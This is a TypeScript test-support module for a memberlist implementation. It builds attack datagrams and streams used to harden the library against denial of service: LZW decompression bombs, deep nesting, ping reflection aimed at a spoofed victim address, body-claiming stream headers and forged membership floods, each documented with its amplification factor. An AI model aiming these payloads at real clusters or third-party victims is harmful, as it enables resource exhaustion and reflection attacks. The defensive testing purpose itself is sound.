// Copyright (c) memberlist-ts authors. SPDX-License-Identifier: MPL-2.0

/**
 * Attack inputs against a memberlist node, as pure functions: no sockets, no clocks, no global state. Each
 * returns the bytes an attacker puts on the wire (datagrams, or the byte stream of one TCP connection) and
 * says what it sends and why no honest Go memberlist sender could ever produce it. Used by the attacker
 * harness (`tests/hostile_test.ts`, over real sockets through `tests/_hostile.ts`) and by the hostile
 * benchmark (`bench/hostile.ts`), against our nodes and Go 0.2.2 alike.
 *
 * Valid pieces are made with the library's own encoders (`lib/codec.ts`, `lib/packet.ts`, `lib/_lzw.ts`,
 * `lib/keyring.ts`, `lib/label.ts`); the shapes no encoder of ours would write (empty compound parts,
 * structs as msgpack arrays, unknown keys holding huge values) are written byte by byte here.
 *
 * The classes (issue 9):
 * - amplification by decompression and nesting: {@linkcode emptyPartsBomb}, {@linkcode deepNesting},
 *   {@linkcode compressInCompress}, {@linkcode compoundOfBombs}, {@linkcode lzwToSize};
 * - reflection: {@linkcode reflectedPings}, {@linkcode tinyPings}, {@linkcode indirectPings};
 * - streams whose cost is quadratic in a value's size: {@linkcode largeStreamValue};
 * - streams whose header claims a large body: {@linkcode claimingStreamHeader};
 * - table growth: {@linkcode forgedPushPull};
 * - invalid records: {@linkcode badAlives}, {@linkcode randomFlood};
 * - without the key: {@linkcode undecryptable}; labels: {@linkcode labelVariants}.
 *
 * @module
 */

import {
  type Alive,
  encodeMessage,
  encodePushPull,
  type IndirectPingReq,
  MessageType,
  type Ping,
  type PushNodeState,
} from "../lib/codec.ts";
import type { Keyring } from "../lib/keyring.ts";
import { addLabelHeaderToPacket } from "../lib/label.ts";
import { addCrcHeader, compressPayload, makeCompoundMessage } from "../lib/packet.ts";
import { createSeededRandom, type RandomSource } from "../lib/random.ts";
import { encodeStreamMessage } from "../lib/stream.ts";

/** The largest UDP payload over IPv4 (65,535 - 8 - 20): no datagram can be longer. */
export const MAX_DATAGRAM: number = 65_507;
/** The chunk size of the chunked stream attacks. */
export const STREAM_CHUNK: number = 64 * 1024;
/** The body the claiming-header attacks announce: 20 MiB, the receive limit of Go 0.2.2 and ours. */
export const CLAIM_BYTES: number = 20 * 1024 * 1024;
/** The protocol and delegate versions an honest node of ours advertises: `[pMin, pMax, pCur, dMin, dMax, dCur]`. */
export const HONEST_VSN: Uint8Array = new Uint8Array([1, 5, 2, 0, 0, 0]);

// ---------------------------------------------------------------- raw msgpack and framing

/** A tiny msgpack writer for the shapes no encoder of ours writes. */
class Raw {
  #buf = new Uint8Array(256);
  #pos = 0;

  #ensure(n: number): void {
    if (this.#pos + n <= this.#buf.length) return;
    let size = this.#buf.length * 2;
    while (size < this.#pos + n) size *= 2;
    const next = new Uint8Array(size);
    next.set(this.#buf.subarray(0, this.#pos));
    this.#buf = next;
  }

  u8(...bytes: number[]): this {
    this.#ensure(bytes.length);
    for (const b of bytes) this.#buf[this.#pos++] = b & 0xff;
    return this;
  }

  u16(v: number): this {
    return this.u8(v >>> 8, v);
  }

  u32(v: number): this {
    return this.u8(v >>> 24, v >>> 16, v >>> 8, v);
  }

  bytes(b: Uint8Array): this {
    this.#ensure(b.length);
    this.#buf.set(b, this.#pos);
    this.#pos += b.length;
    return this;
  }

  /** A str header of the smallest form for `n` bytes. */
  strHeader(n: number): this {
    if (n < 32) return this.u8(0xa0 | n);
    if (n < 0x100) return this.u8(0xd9, n);
    if (n < 0x10000) return this.u8(0xda).u16(n);
    return this.u8(0xdb).u32(n);
  }

  str(s: string | Uint8Array): this {
    const b = typeof s === "string" ? new TextEncoder().encode(s) : s;
    return this.strHeader(b.length).bytes(b);
  }

  uint(v: number): this {
    if (v < 0x80) return this.u8(v);
    if (v < 0x100) return this.u8(0xcc, v);
    if (v < 0x10000) return this.u8(0xcd).u16(v);
    if (v < 0x100000000) return this.u8(0xce).u32(v);
    return this.u8(0xcf).u32(Math.floor(v / 0x100000000)).u32(v >>> 0);
  }

  bool(v: boolean): this {
    return this.u8(v ? 0xc3 : 0xc2);
  }

  mapHeader(n: number): this {
    if (n < 16) return this.u8(0x80 | n);
    if (n < 0x10000) return this.u8(0xde).u16(n);
    return this.u8(0xdf).u32(n);
  }

  arrayHeader(n: number): this {
    if (n < 16) return this.u8(0x90 | n);
    if (n < 0x10000) return this.u8(0xdc).u16(n);
    return this.u8(0xdd).u32(n);
  }

  finish(): Uint8Array {
    return this.#buf.slice(0, this.#pos);
  }
}

/**
 * A compound message with any parts, empty ones included (`makeCompoundMessage` refuses those, rightly).
 *
 * @throws {RangeError} With more than 255 parts or a part over 65,535 bytes (the wire cannot say it).
 */
export function rawCompound(parts: readonly Uint8Array[]): Uint8Array {
  if (parts.length > 255) throw new RangeError(`Cannot build compound: ${parts.length} parts`);
  let size = 2 + 2 * parts.length;
  for (const p of parts) {
    if (p.length > 0xffff) throw new RangeError(`Cannot build compound: part of ${p.length} bytes`);
    size += p.length;
  }
  const out = new Uint8Array(size);
  out[0] = MessageType.Compound;
  out[1] = parts.length;
  let at = 2;
  for (const p of parts) {
    out[at++] = p.length >>> 8;
    out[at++] = p.length & 0xff;
  }
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/**
 * Packs `leaves` into a tree of compounds: groups of at most 255 parts and 65,535 bytes per level, until one
 * message is left (the top compound is bounded only by its 255 parts: nothing frames its length).
 */
export function nestCompounds(leaves: readonly Uint8Array[]): Uint8Array {
  let level: readonly Uint8Array[] = leaves;
  while (level.length > 1) {
    if (level.length <= 255 && level.reduce((n, m) => n + 2 + m.length, 2) > 0xffff) return rawCompound(level);
    const next: Uint8Array[] = [];
    let group: Uint8Array[] = [];
    let size = 2;
    for (const m of level) {
      if (group.length === 255 || (group.length > 0 && size + 2 + m.length > 0xffff)) {
        next.push(rawCompound(group));
        group = [];
        size = 2;
      }
      group.push(m);
      size += 2 + m.length;
    }
    if (group.length > 0) next.push(rawCompound(group));
    if (next.length === level.length && next.length > 255) {
      throw new RangeError(`Cannot nest ${leaves.length} messages into one compound`);
    }
    level = next;
  }
  return level[0]!;
}

/** How an attack datagram is framed on the way out: which of the node's layers the attacker can produce. */
export interface AttackFraming {
  /** The cluster's key (an insider), or none: the bytes go out as they are. */
  keyring?: Keyring | null;
  /** A label header to put in front (label-only clusters: a label is no secret). */
  label?: Uint8Array;
  /** Add the CRC header (Go adds it for protocol 5 recipients). */
  crc?: boolean;
}

/**
 * Frames a message as a datagram, the way `sealPacket` does but without its compression step (the attacks
 * choose their own): CRC header, encryption with the primary key (the label as additional data), label.
 */
export function frameDatagram(msg: Uint8Array, framing: AttackFraming = {}): Uint8Array {
  let buf = msg;
  const label = framing.label ?? new Uint8Array(0);
  if (framing.crc) buf = addCrcHeader(buf);
  if (framing.keyring && framing.keyring.size > 0) buf = framing.keyring.encrypt(1, buf, label);
  return addLabelHeaderToPacket(buf, label);
}

/** Frames a stream message as a dialer does: label header first, then encryption with a length header. */
export function frameStream(msg: Uint8Array, framing: AttackFraming = {}): Uint8Array {
  const label = framing.label ?? new Uint8Array(0);
  const keyring = framing.keyring ?? null;
  const body = encodeStreamMessage(msg, {
    label,
    skipInboundLabelCheck: false,
    keyring,
    encryptionVersion: 1,
    gossipVerifyIncoming: true,
    gossipVerifyOutgoing: true,
    enableCompression: false,
  }, label);
  return addLabelHeaderToPacket(body, label);
}

// ---------------------------------------------------------------- amplification

/**
 * The datagram of issue 9: nested compounds of empty parts, LZW-compressed. A compound of 64 parts, each a
 * compound of 127 parts, each a compound of 255 empty parts: 2,072,640 empty parts in 4,178,050 bytes, which
 * LZW packs into one 20,920-byte compress message (a 200x bomb). On today's main this cost 48 s of CPU and
 * 2 GB of memory, and Go 0.2.2 panics on the first empty part.
 *
 * Go never sends it: a compound part is a complete message (never empty), Go nests a compound at most once
 * inside a compress message, and compresses only what fits in one UDP buffer (1,400 bytes by default).
 *
 * @returns the message (a compress message; frame it with {@linkcode frameDatagram})
 */
export function emptyPartsBomb(): Uint8Array {
  const inner = rawCompound(new Array<Uint8Array>(255).fill(new Uint8Array(0)));
  const middle = rawCompound(new Array<Uint8Array>(127).fill(inner));
  const outer = rawCompound(new Array<Uint8Array>(64).fill(middle));
  return compressPayload(outer);
}

/**
 * Messages nested `depth` levels deep, around one ping: compounds of one part each (`"compound"`), compress
 * messages (`"compress"`), or both taking turns (`"alternating"`). A 64 KiB datagram holds about 16,000
 * levels of compound: a recursive reader overflows its stack.
 *
 * Go never sends it: Go nests at most a compound inside a compress message, two levels.
 */
export function deepNesting(kind: "compound" | "compress" | "alternating", depth: number): Uint8Array {
  const ping = encodeMessage(MessageType.Ping, { seqNo: 1, node: "", sourceAddr: null, sourcePort: 0, sourceNode: "" });
  if (kind === "compound") {
    // Written outside in: each level is `07 01 <length of the rest>`.
    const out = new Uint8Array(4 * depth + ping.length);
    for (let i = 0; i < depth; i++) {
      const rest = out.length - 4 * (i + 1);
      if (rest > 0xffff) throw new RangeError(`Cannot nest ${depth} compounds: a part would be ${rest} bytes`);
      out.set([MessageType.Compound, 1, rest >>> 8, rest & 0xff], 4 * i);
    }
    out.set(ping, 4 * depth);
    return out;
  }
  let msg = ping;
  for (let i = 0; i < depth; i++) {
    msg = kind === "compress" || i % 2 === 1 ? compressPayload(msg) : rawCompound([msg]);
    if (msg.length > MAX_DATAGRAM) throw new RangeError(`Cannot nest ${depth} levels in a datagram: ${msg.length} bytes at ${i + 1}`);
  }
  return msg;
}

/** The deepest compound-only nesting that fits in one datagram (4 bytes a level around a 15-byte ping). */
export const MAX_DATAGRAM_NESTING: number = Math.floor((MAX_DATAGRAM - 15) / 4);

/**
 * A compress message inside a compress message, `layers` times, around the empty-parts payload of
 * {@linkcode emptyPartsBomb} cut to `innerBytes`: each layer must be inflated before the next can be read, so
 * a reader that bounds one inflate but not their sum pays for every layer.
 *
 * Go never sends it: Go compresses a message once.
 */
export function compressInCompress(layers: number, innerBytes: number = 1024 * 1024): Uint8Array {
  const zeros = new Uint8Array(innerBytes);
  zeros[0] = MessageType.Compound;
  zeros[1] = 255; // 255 empty parts, then zeros a compound reader ignores
  let msg: Uint8Array = compressPayload(zeros);
  for (let i = 1; i < layers; i++) msg = compressPayload(msg);
  return msg;
}

/**
 * A compound of `parts` compress messages, each inflating to `inflatedEach` bytes (a compound of 255 empty
 * parts followed by zeros). Bounds that count each inflate alone (Go's newest 40 MiB per message) allow
 * parts x the limit per datagram.
 *
 * Go never sends it: Go compresses the whole packet, never the parts of a compound.
 *
 * @throws {RangeError} When the result does not fit in a datagram
 */
export function compoundOfBombs(parts: number = 255, inflatedEach: number = 16 * 1024): Uint8Array {
  const inner = new Uint8Array(inflatedEach);
  inner[0] = MessageType.Compound;
  inner[1] = 255;
  const bomb = compressPayload(inner);
  const msg = rawCompound(new Array<Uint8Array>(parts).fill(bomb));
  if (msg.length > MAX_DATAGRAM) throw new RangeError(`Cannot fit ${parts} bombs of ${bomb.length} bytes in a datagram`);
  return msg;
}

/**
 * One compress message inflating to exactly `size` bytes: a user message (`0x08`) of `size - 1` zeros. At a
 * receive limit it must be accepted (or refused for its content, not its size) at a cost linear in `size`;
 * one byte over must be refused before the excess is written.
 *
 * Go sends user messages of at most one UDP buffer in a datagram; it never inflates one to megabytes.
 */
export function lzwToSize(size: number): Uint8Array {
  const inner = new Uint8Array(size);
  inner[0] = MessageType.User;
  return compressPayload(inner);
}

// ---------------------------------------------------------------- reflection

/** An IPv4 address and port, for victims and targets. */
export interface Endpoint {
  readonly ip: string;
  readonly port: number;
}

function ipBytes(ip: string): Uint8Array {
  const parts = ip.split(".").map(Number);
  if (parts.length !== 4 || parts.some((p) => !(p >= 0 && p <= 255))) throw new RangeError(`Not an IPv4 address: "${ip}"`);
  return new Uint8Array(parts);
}

/**
 * A ping as a msgpack array (`[SeqNo, Node, SourceAddr, SourcePort, SourceNode]`, 14 bytes with its type
 * byte) whose source names the victim: the node acks the victim. Decoders take structs as arrays, and this
 * short period is what makes LZW pack 65,536 of them into about 13.6 KB.
 *
 * Go never sends it: go-msgpack writes structs as maps, and a node names itself as the source.
 */
export function arrayPing(victim: Endpoint, seqNo: number = 1): Uint8Array {
  return new Raw().u8(MessageType.Ping).arrayHeader(5).uint(seqNo).str("").str(ipBytes(victim.ip)).uint(victim.port)
    .str("").finish();
}

/**
 * One compressed datagram of `count` pings whose SourceAddr/SourcePort name `victim` (issue 9: 65,536 pings
 * in 11,747 bytes made today's main send 1,179,648 bytes of acks to the victim, 100x; this one is 13,611
 * bytes). A node may answer with at most one ack per datagram.
 *
 * Go never sends it: one ping per probe, one probe per datagram, the prober's own address as the source.
 */
export function reflectedPings(victim: Endpoint, count: number = 65_536): Uint8Array {
  return compressPayload(nestCompounds(new Array<Uint8Array>(count).fill(arrayPing(victim))));
}

/**
 * The 2-byte ping `00 80` (an empty map: sequence number 0, no target name, no source: acked to the sender),
 * `count` of them nested in compounds, compressed when `compress` (65,536 in about 2.7 KB: 430x on main).
 *
 * Go never sends it: a ping names its target and carries a sequence number.
 */
export function tinyPings(count: number = 65_536, compress: boolean = true): Uint8Array {
  const msg = nestCompounds(new Array<Uint8Array>(count).fill(new Uint8Array([MessageType.Ping, 0x80])));
  return compress ? compressPayload(msg) : msg;
}

/**
 * `count` indirect ping requests in one datagram (nested compounds; compressed, and written as msgpack
 * arrays, when `compress`: 65,536 of them in about 30 KB): each asks
 * the relay to ping `target` (a victim) and, with `nack`, to send a nack to `source` (another victim, or the
 * target again) after its probe timeout. Every request costs the relay a ping, an ack handler and a timer.
 *
 * Go never sends it: one indirect request per relay per probe, from the prober's own address.
 */
export function indirectPings(
  target: Endpoint,
  source: Endpoint,
  options: { count?: number; nack?: boolean; compress?: boolean } = {},
): Uint8Array {
  const req: IndirectPingReq = {
    seqNo: 7,
    target: ipBytes(target.ip),
    port: target.port,
    node: "",
    nack: options.nack ?? true,
    sourceAddr: ipBytes(source.ip),
    sourcePort: source.port,
    sourceNode: "",
  };
  const count = options.count ?? 255;
  // Compressed, as a msgpack array ([SeqNo, Target, Port, Node, Nack, SourceAddr, SourcePort, SourceNode]): a
  // short period, so that 65,536 of them fit in one datagram.
  const one = options.compress
    ? new Raw().u8(MessageType.IndirectPing).arrayHeader(8).uint(req.seqNo).str(req.target).uint(req.port).str("")
      .bool(req.nack).str(req.sourceAddr!).uint(req.sourcePort).str("").finish()
    : encodeMessage(MessageType.IndirectPing, req);
  const msg = count === 1 ? one : nestCompounds(new Array<Uint8Array>(count).fill(one));
  return options.compress ? compressPayload(msg) : msg;
}

// ---------------------------------------------------------------- streams

/** The shapes of {@linkcode largeStreamValue}. */
export type LargeValueShape = "str" | "array" | "map" | "nested";

/**
 * A push/pull stream message of about `size` bytes whose header (`where: "header"`) or only node record
 * (`"record"`) carries an extra key holding one huge msgpack value: a str (cheap to skip), an array of nils
 * or a map of nil pairs (a reader must walk every element), or arrays nested 30 deep around nils. Sent 64 KiB
 * at a time, a reader that rescans the value for every chunk does quadratic work (issue 9: 8 MiB cost about
 * 1 s of CPU per connection on main, 40 MiB about 50 s).
 *
 * Go never sends it: its push/pull header and records have fixed fields, and a node record holds no value
 * larger than its metadata (512 bytes).
 */
export function largeStreamValue(size: number, shape: LargeValueShape, where: "header" | "record" = "header"): Uint8Array {
  const w = new Raw().u8(MessageType.PushPull);
  const header = (extra: boolean) => {
    w.mapHeader(extra ? 4 : 3).str("Join").bool(false).str("Nodes").uint(where === "record" ? 1 : 0)
      .str("UserStateLen").uint(0);
  };
  const value = (n: number) => {
    w.str("X");
    switch (shape) {
      case "str":
        w.strHeader(n).bytes(new Uint8Array(n));
        return;
      case "array":
        w.arrayHeader(n).bytes(new Uint8Array(n).fill(0xc0));
        return;
      case "map":
        w.mapHeader(Math.floor(n / 2)).bytes(new Uint8Array(Math.floor(n / 2) * 2).fill(0xc0));
        return;
      case "nested": {
        // 30 levels of one-element arrays, then an array of nils at the bottom.
        for (let i = 0; i < 30; i++) w.u8(0x91);
        w.arrayHeader(n - 35).bytes(new Uint8Array(n - 35).fill(0xc0));
        return;
      }
    }
  };
  const n = Math.max(64, size - 120);
  if (where === "header") {
    header(true);
    value(n);
  } else {
    header(false);
    w.mapHeader(8).str("Name").str("huge").str("Addr").str(new Uint8Array([127, 0, 0, 1])).str("Port").uint(1)
      .str("Meta").u8(0xc0).str("Incarnation").uint(1).str("State").uint(0).str("Vsn").str(HONEST_VSN);
    value(n);
  }
  return w.finish();
}

/** The kinds of {@linkcode claimingStreamHeader}. */
export type ClaimKind = "encrypted" | "user" | "pushpull";

/**
 * The first bytes of a stream that claims a `claim`-byte body and then sends little or nothing of it
 * (trickle {@linkcode trickleBytes} after them): an encrypted-message header (`0x0a` + uint32 length), a user
 * message header (`0x08` + `{UserMsgLen}`), or a push/pull header (`0x06` + `{Nodes: 0, UserStateLen}`).
 * A reader that allocates the claimed length up front pays `claim` bytes per connection for a few bytes
 * received (issue 9: 128 such connections cost main 1.2 GB).
 *
 * Go sends a length only with the body right behind it, and never opens 128 streams to one node at once.
 */
export function claimingStreamHeader(kind: ClaimKind, claim: number = CLAIM_BYTES): Uint8Array {
  switch (kind) {
    case "encrypted":
      return new Raw().u8(MessageType.Encrypt).u32(claim).finish();
    case "user":
      return new Raw().u8(MessageType.User).mapHeader(1).str("UserMsgLen").uint(claim).finish();
    case "pushpull":
      return new Raw().u8(MessageType.PushPull).mapHeader(3).str("Join").bool(false).str("Nodes").uint(0)
        .str("UserStateLen").uint(claim).finish();
  }
}

/** What a trickling connection sends after its header, a few bytes at a time: any bytes do. */
export function trickleBytes(n: number): Uint8Array {
  return new Uint8Array(n).fill(0x41);
}

/**
 * A push/pull with `count` forged alive records (`<prefix>000001`, … at 127.1.x.y, port 1, where nothing
 * listens), encoded by our own encoder, compressed as a whole when `compress`. 200,000 records are 14.6 MB
 * (1.36 MB compressed); issue 9's 16.6 MB of them blocked main 5.5 s, got it declared dead, and stayed in its
 * table, probed for ever.
 *
 * Go never sends it: a push/pull lists the sender's own table, which no real cluster grows to this size in
 * one step, and every record in it belongs to a node that once joined.
 */
export function forgedPushPull(count: number, options: { compress?: boolean; join?: boolean; prefix?: string } = {}): Uint8Array {
  const prefix = options.prefix ?? "forged-";
  const nodes: PushNodeState[] = new Array(count);
  for (let i = 0; i < count; i++) {
    nodes[i] = {
      name: `${prefix}${String(i + 1).padStart(6, "0")}`,
      addr: forgedAddr(i),
      port: 1,
      meta: null,
      incarnation: 1,
      state: 0,
      vsn: HONEST_VSN,
    };
  }
  const msg = encodePushPull({ join: options.join ?? false, nodes, userState: new Uint8Array(0) });
  return options.compress ? compressPayload(msg) : msg;
}

/** The address of forged record `i`: 127.1.0.0 and up, on loopback, where nothing listens on port 1. */
export function forgedAddr(i: number): Uint8Array {
  return new Uint8Array([127, 1 + ((i >>> 16) & 0x7f), (i >>> 8) & 0xff, i & 0xff]);
}

// ---------------------------------------------------------------- invalid records

/** One invalid alive message, with what is wrong with it. */
export interface BadAlive {
  readonly name: string;
  /** The alive message, type byte first. */
  readonly msg: Uint8Array;
  /** The record's node name (for checking the table afterwards). */
  readonly node: string;
  readonly why: string;
}

/**
 * Alive messages that no Go node sends and none may enter a table (issue 9: an alive for node "" with no
 * address entered main's table and spread to Go, whose every later join through the TS node then failed
 * with `Node '' protocol version (0) is incompatible`): no name, no address, empty/short/zero/out-of-range
 * `Vsn`, 3- and 5-byte addresses, a 60 KB name, 513-byte and 60 KB metadata, a name with invalid UTF-8.
 * Names start with `bad-` (except the empty one), so they never collide with a real node.
 *
 * Go never sends them: `Create` refuses an empty name, a node advertises a 4- or 16-byte address, `Vsn` is
 * always 6 bytes within the supported ranges, and metadata over 512 bytes fails `setAlive`.
 */
export function badAlives(): BadAlive[] {
  const ip = new Uint8Array([127, 1, 255, 1]);
  const alive = (node: string, over: Partial<Alive>): Uint8Array =>
    encodeMessage(MessageType.Alive, { incarnation: 1, node, addr: ip, port: 1, meta: null, vsn: HONEST_VSN, ...over });
  const out: BadAlive[] = [
    { name: "no name", node: "", msg: alive("", {}), why: "empty node name" },
    {
      name: "no name, no address, no vsn",
      node: "",
      msg: new Raw().u8(MessageType.Alive).mapHeader(1).str("Incarnation").uint(1).finish(),
      why: "an alive holding only an incarnation (the random-flood case of issue 9)",
    },
    { name: "no address", node: "bad-noaddr", msg: alive("bad-noaddr", { addr: new Uint8Array(0) }), why: "empty Addr" },
    { name: "3-byte address", node: "bad-addr3", msg: alive("bad-addr3", { addr: new Uint8Array([127, 0, 1]) }), why: "Addr of 3 bytes" },
    { name: "5-byte address", node: "bad-addr5", msg: alive("bad-addr5", { addr: new Uint8Array([127, 0, 0, 1, 9]) }), why: "Addr of 5 bytes" },
    { name: "empty vsn", node: "bad-vsn0", msg: alive("bad-vsn0", { vsn: new Uint8Array(0) }), why: "Vsn absent" },
    { name: "short vsn", node: "bad-vsn3", msg: alive("bad-vsn3", { vsn: new Uint8Array([1, 5, 2]) }), why: "Vsn of 3 bytes" },
    { name: "zero vsn", node: "bad-vsnz", msg: alive("bad-vsnz", { vsn: new Uint8Array(6) }), why: "Vsn all zeros (protocol 0)" },
    {
      name: "out-of-range vsn",
      node: "bad-vsnr",
      msg: alive("bad-vsnr", { vsn: new Uint8Array([9, 250, 255, 7, 3, 200]) }),
      why: "pMin > pMax, pCur 255, dCur out of [dMin, dMax]",
    },
    { name: "long vsn", node: "bad-vsn9", msg: alive("bad-vsn9", { vsn: new Uint8Array([1, 5, 2, 0, 0, 0, 1, 2, 3]) }), why: "Vsn of 9 bytes" },
    { name: "huge name", node: `bad-${"n".repeat(60_000)}`, msg: alive(`bad-${"n".repeat(60_000)}`, {}), why: "a 60 KB name" },
    { name: "meta 513", node: "bad-meta513", msg: alive("bad-meta513", { meta: new Uint8Array(513).fill(1) }), why: "meta over 512 bytes" },
    { name: "meta 60K", node: "bad-meta60k", msg: alive("bad-meta60k", { meta: new Uint8Array(60_000).fill(1) }), why: "60 KB of meta" },
    {
      name: "invalid utf-8 name",
      node: "bad-\ufffd",
      msg: new Raw().u8(MessageType.Alive).mapHeader(6).str("Incarnation").uint(1).str("Node")
        .str(new Uint8Array([0x62, 0x61, 0x64, 0x2d, 0xff])).str("Addr").str(ip).str("Port").uint(1).str("Meta").u8(0xc0)
        .str("Vsn").str(HONEST_VSN).finish(),
      why: "a name that is not UTF-8",
    },
  ];
  return out;
}

/** The message types {@linkcode randomFlood} draws from. */
const FLOOD_TYPES = [
  MessageType.Ping,
  MessageType.IndirectPing,
  MessageType.AckResp,
  MessageType.Suspect,
  MessageType.Alive,
  MessageType.Dead,
  MessageType.User,
  MessageType.NackResp,
  MessageType.Compound,
];

/**
 * `count` random datagrams of well-formed messages with random fields, seeded (same seed, same flood): pings
 * and indirect pings (acked to the attacker, who sends from 127.0.0.1), acks and nacks for unknown sequence
 * numbers, suspect/dead/alive for random names (`""`, or starting with `~`, so no real node is accused),
 * addresses on loopback (127.1.x.y) or of lengths no IP has, `Vsn` of 0-8 random bytes, metadata of 0-600
 * bytes, user messages, and
 * compounds of up to 32 of these. The style of issue 9's random-message flood, which is what put node "" in
 * main's table.
 *
 * Go never sends most of them: see {@linkcode badAlives}; the rest are honest shapes from a stranger.
 *
 * @param count datagrams
 * @param seed the generator's seed
 * @param reply where pings and indirect pings ask for answers: the attacker's own socket
 */
export function randomFlood(count: number, seed: number, reply: Endpoint): Uint8Array[] {
  const random = createSeededRandom(seed);
  const int = (n: number) => Math.floor(random() * n);
  const bytes = (n: number) => {
    const b = new Uint8Array(n);
    for (let i = 0; i < n; i++) b[i] = int(256);
    return b;
  };
  // An address of a length no IP has (0-17 bytes, never 4 or 16): random bytes of 4 or 16 would be a real
  // address somewhere, and the node would probe it. Every valid address here is on loopback.
  const badLength = () => {
    let n = int(18);
    while (n === 4 || n === 16) n = int(18);
    return bytes(n);
  };
  const name = () => (int(4) === 0 ? "" : `~${Array.from(bytes(1 + int(24)), (b) => String.fromCharCode(33 + (b % 94))).join("")}`);
  const one = (nested = false): Uint8Array => {
    const type = FLOOD_TYPES[int(FLOOD_TYPES.length - (nested ? 1 : 0))]!;
    switch (type) {
      case MessageType.Ping: {
        const p: Ping = { seqNo: int(2 ** 32), node: int(3) === 0 ? "" : name(), sourceAddr: null, sourcePort: 0, sourceNode: name() };
        if (int(2) === 0) {
          p.sourceAddr = ipBytes(reply.ip);
          p.sourcePort = reply.port;
        }
        return encodeMessage(type, p);
      }
      case MessageType.IndirectPing:
        return encodeMessage(type, {
          seqNo: int(2 ** 32),
          target: ipBytes(reply.ip),
          port: reply.port,
          node: name(),
          nack: int(2) === 0,
          sourceAddr: ipBytes(reply.ip),
          sourcePort: reply.port,
          sourceNode: name(),
        });
      case MessageType.AckResp:
        return encodeMessage(type, { seqNo: int(2 ** 32), payload: int(2) === 0 ? null : bytes(int(64)) });
      case MessageType.NackResp:
        return encodeMessage(type, { seqNo: int(2 ** 32) });
      case MessageType.Suspect:
      case MessageType.Dead:
        return encodeMessage(type, { incarnation: int(2 ** 32), node: name(), from: name() });
      case MessageType.Alive:
        return encodeMessage(type, {
          incarnation: int(2 ** 32),
          node: name(),
          addr: int(3) === 0 ? badLength() : forgedAddr(100_000 + int(50_000)),
          port: int(65_536),
          meta: int(2) === 0 ? null : bytes(int(600)),
          vsn: int(3) === 0 ? bytes(int(9)) : HONEST_VSN,
        });
      case MessageType.User:
        return new Uint8Array([MessageType.User, ...bytes(int(200))]);
      default: {
        const parts: Uint8Array[] = [];
        for (let i = int(32); i >= 0; i--) parts.push(one(true));
        return makeCompoundMessage(parts);
      }
    }
  };
  const out: Uint8Array[] = [];
  while (out.length < count) {
    const m = one();
    if (m.length <= MAX_DATAGRAM) out.push(m);
  }
  return out;
}

// ---------------------------------------------------------------- without the key, labels

/**
 * Datagrams from a party without the key, all of which fail decryption: random bytes behind version byte 1
 * (nonce, ciphertext, tag of the right sizes: the node must run AES-GCM to refuse them) and 0, 64 KiB of
 * them, plaintext messages (refused when incoming verification is on), and a bare version byte.
 *
 * Go never sends them: its envelopes carry a valid tag under an installed key.
 */
export function undecryptable(seed: number = 9): { name: string; datagram: Uint8Array }[] {
  const random: RandomSource = createSeededRandom(seed);
  const bytes = (n: number, first: number) => {
    const b = new Uint8Array(n);
    for (let i = 0; i < n; i++) b[i] = Math.floor(random() * 256);
    b[0] = first;
    return b;
  };
  return [
    { name: "v1 garbage, ping-sized", datagram: bytes(1 + 12 + 40 + 16, 1) },
    { name: "v1 garbage, full buffer", datagram: bytes(1400, 1) },
    { name: "v1 garbage, 64 KiB", datagram: bytes(MAX_DATAGRAM, 1) },
    { name: "v0 garbage", datagram: bytes(1 + 12 + 64 + 16, 0) },
    { name: "bare version byte", datagram: new Uint8Array([1]) },
    { name: "plaintext bomb", datagram: emptyPartsBomb() },
    { name: "plaintext reflection", datagram: tinyPings(65_536) },
  ];
}

/**
 * Label-header variants of a message for a cluster labelled `label` (label-only: the label is no secret):
 * the right label (processed, so the attack inside applies in full), a wrong one, none, an empty label
 * (`f4 00`), a header cut short, and two label headers.
 *
 * Go never sends them, except the right label: a labelled node labels every datagram exactly once.
 */
export function labelVariants(msg: Uint8Array, label: Uint8Array): { name: string; datagram: Uint8Array }[] {
  const wrong = new TextEncoder().encode("not-the-label");
  return [
    { name: "right label", datagram: addLabelHeaderToPacket(msg, label) },
    { name: "wrong label", datagram: addLabelHeaderToPacket(msg, wrong) },
    { name: "no label", datagram: msg },
    { name: "empty label", datagram: new Uint8Array([MessageType.HasLabel, 0, ...msg.subarray(0, 64)]) },
    { name: "truncated label", datagram: new Uint8Array([MessageType.HasLabel, 200, 1, 2, 3]) },
    { name: "two labels", datagram: addLabelHeaderToPacket(addLabelHeaderToPacket(msg, label), label) },
  ];
}
